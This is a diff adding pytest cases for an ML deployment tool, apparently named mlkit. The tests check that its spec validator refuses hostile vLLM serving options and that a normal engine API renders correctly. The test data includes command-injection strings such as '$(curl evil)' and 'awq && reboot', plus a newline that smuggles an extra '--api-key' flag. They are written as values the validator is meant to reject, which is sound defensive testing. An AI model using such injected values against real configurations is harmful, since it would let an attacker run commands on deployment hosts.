@@ -146,3 +146,34 @@ def test_serving_options_are_checked():
     assert "apis[0].serving.quantization" in only(AWS.replace("memory: 64Gi}", "memory: 64Gi}, serving: {quantization: 'awq; reboot'}"))
     assert "apis[0].serving.max_model_len" in only(AWS.replace("memory: 64Gi}", "memory: 64Gi}, serving: {max_model_len: 0}"))
     assert "apis[0].hf_token_secret.name" in only(AWS.replace("memory: 64Gi}", "memory: 64Gi}, hf_token_secret: {name: Bad_Name}"))
+
+
+HOSTILE = [
+    ("extra-args-newline", '{extra_args: ["--max-num-seqs\\n--api-key=stolen"]}', r"serving\.extra_args\[0\]: the value holds the invisible character U\+000A"),
+    ("extra-args-owned", "{extra_args: [--api-key=open]}", r"serving\.extra_args: .*--api-key is set by mlkit from the spec"),
+    ("extra-args-shell", '{extra_args: ["$(curl evil)"]}', r"serving\.extra_args: .*is a value without a flag before it"),
+    ("quantization-shell", "{quantization: 'awq && reboot'}", r"serving\.quantization"),
+]
+
+
+@pytest.mark.parametrize(("serving", "pattern"), [c[1:] for c in HOSTILE], ids=[c[0] for c in HOSTILE])
+def test_hostile_engine_options_are_refused_with_one_line_and_nothing_written(project, sentinel, serving, pattern):
+    from tests.spec.test_hostile import _refused_by_validate_and_render
+
+    proj = project("aws-accelerators")
+    spec = proj / "mlkit.yaml"
+    spec.write_text(spec.read_text() + f"  - {{name: chat, engine: vllm, model: model/, compute: {{memory: 16Gi, gpu: 1}}, serving: {serving}}}\n")
+    _refused_by_validate_and_render(proj, sentinel, pattern)
+
+
+def test_an_engine_api_validates_and_renders_through_the_cli(project):
+    from tests.conftest import mlkit
+
+    proj = project("aws-accelerators")
+    spec = proj / "mlkit.yaml"
+    spec.write_text(spec.read_text() + "  - {name: chat, engine: vllm, model: model/, compute: {memory: 16Gi, gpu: 1}}\n")
+    assert mlkit("validate", cwd=proj, timeout=60).returncode == 0
+    rendered = mlkit("render", "--allow-dirty", cwd=proj, timeout=120)
+    assert rendered.returncode == 0, rendered.stderr
+    assert "vllm/vllm-openai:v0.31.0-cu129" in (proj / "infra/k8s/chat/deployment.yaml").read_text()
+    assert not (proj / "infra/k8s/chat/configmap.yaml").exists()
